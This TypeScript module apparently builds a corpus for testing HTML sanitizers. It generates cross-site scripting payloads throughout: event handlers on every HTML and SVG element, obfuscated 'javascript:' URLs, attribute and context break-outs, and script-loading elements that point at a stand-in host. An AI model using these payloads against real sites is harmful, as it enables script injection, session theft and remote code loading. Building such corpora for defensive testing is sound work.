// Values that make a browser run script: every element, event handler and URL attribute that the HTML and SVG standards name, in every
// place where a page may put a value, in every spelling that a browser's tokeniser accepts (HTML Living Standard, 13.2.5).

import { htmlEventAttributes } from 'html-event-attributes';
import { htmlTagNames } from 'html-tag-names';
import { urlAttributes } from 'html-url-attributes';
import { svgEventAttributes } from 'svg-event-attributes';
import { svgTagNames } from 'svg-tag-names';

/** One value and its kind. */
export interface MarkupValue {
  readonly text: string;
  /** Where the page has put it, and what it does there. */
  readonly kind: string;
}

/** What ends the place of the value in the page, and what begins after the value; `kind` for reports. */
const places = [
  { kind: 'text', before: '', behind: '' },
  { kind: 'words', before: 'Yours, Pat ', behind: ' and so on' },
  { kind: 'attribute in double quotes', before: 'x">', behind: '' },
  { kind: 'attribute in single quotes', before: "'>", behind: '' },
  { kind: 'attribute without quotes', before: 'x>', behind: '' },
  { kind: 'comment', before: 'x-->', behind: '<!--' },
  { kind: 'title', before: '</title>', behind: '' },
  { kind: 'textarea', before: 'a</textarea>', behind: '' },
  { kind: 'style', before: '</style>', behind: '' },
  { kind: 'open tag', before: '<b><i>', behind: '' },
] as const;

/** Spellings of a tag with one attribute. */
const tags: readonly ((element: string, name: string, value: string) => string)[] = [
  (element, name, value) => `<${element} ${name}=${value}>`,
  (element, name, value) => `<${element} ${name}="${value}">`,
  (element, name, value) => `<${element} ${name}='${value}'/>`,
  (element, name, value) => `<${element}/${name}=${value}`,
  (element, name, value) => `<${element.toUpperCase()}\n${name.toUpperCase()} = "${value}" >`,
  (element, name, value) => `<${element} a=b c ${name}\t=\t${value} d>`,
  (element, name, value) => `<${element} a="b"${name}='${value}'>`,
  (element, name, value) => `<${element}\f${name}=${value}//`,
];

/** Spellings of one attribute in a tag that the page began. */
const attributes: readonly ((name: string, value: string) => string)[] = [
  (name, value) => `x" ${name}="${value}`,
  (name, value) => `"${name}=${value} a="`,
  (name, value) => `' ${name}='${value}`,
  (name, value) => `x ${name}=${value}`,
  (name, value) => `x' a='b' ${name} = ${value} c='`,
  (name, value) => `"/${name.toUpperCase()}="${value}`,
];

const scripts = ['alert(1)', 'alert`1`', 'location=name', 'eval(name)'] as const;
/** URLs that run script when a browser follows them. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'java&Tab;script:alert(1)',
  '&#0000106avascript:alert(1)',
] as const;

const elementNames = [...new Set([...htmlTagNames, ...svgTagNames])];
const handlerNames = [...new Set([...htmlEventAttributes, ...svgEventAttributes])];

/** Attributes whose URL a browser loads as a page or a script, with an element that has them. */
const followed: readonly (readonly [element: string, name: string])[] = [
  ...(['action', 'data', 'formAction', 'href', 'src'] as const).flatMap((name) =>
    (urlAttributes[name] ?? []).map((element) => [element, name.toLowerCase()] as const),
  ),
  ...['a', 'use', 'animate', 'set'].map((element) => [element, 'xlink:href'] as const),
];

/** Chooses in turn, the same every time. */
const turn = <T>(choices: readonly T[], n: number): T => choices[n % choices.length] as T;

/** Event handlers of every element. */
export function* handlerValues(): Generator<MarkupValue> {
  let n = 0;
  for (const element of elementNames) {
    for (const name of handlerNames) {
      n += 1;
      const place = turn(places, n);
      // The choices change at different rates, so that every combination occurs: the counts have no common divisor.
      const text = turn(tags, Math.floor(n / 3))(element, name, turn(scripts, Math.floor(n / 7)));
      yield { text: `${place.before}${text}${place.behind}`, kind: `handler in ${place.kind}` };
    }
  }
  for (const name of handlerNames) {
    for (const spell of attributes) {
      for (const script of scripts) yield { text: spell(name, script), kind: 'handler behind an attribute' };
    }
  }
}

/** URLs in every attribute that is followed. */
export function* addressValues(): Generator<MarkupValue> {
  for (const [element, name] of followed) {
    for (const address of addresses) {
      for (const place of places) {
        for (const spell of tags) {
          // White space ends a value without quotes.
          const text = spell(element, name, address);
          if (/\s/.test(address) && !/["']/.test(text)) continue;
          yield {
            text: `${place.before}${text}${place.behind}`,
            kind: `address of ${element} ${name} in ${place.kind}`,
          };
        }
      }
      yield { text: `x" ${name}="${address}`, kind: 'address behind an attribute' };
    }
  }
  for (const address of addresses) yield { text: address, kind: 'address as a whole' };
}

/** Elements that run or load script by themselves. */
export function* elementValues(): Generator<MarkupValue> {
  const bodies = [
    '<script>alert(1)</script>',
    '<script src=//e.example/a>',
    '<ScRiPt/x>',
    '<script\n>',
    '<svg:script>',
    '<script',
    '<iframe srcdoc=x>',
    '<object data=//e.example/a.swf?',
    '<embed src=//e.example/a>',
    '<base href=//e.example>',
    '<meta http-equiv=refresh content=0>',
    '<style>@import"//e.example"</style>',
    '<link rel=stylesheet href=//e.example>',
  ];
  for (const body of bodies) {
    for (const { before, behind, kind } of places)
      yield { text: `${before}${body}${behind}`, kind: `element in ${kind}` };
  }
}
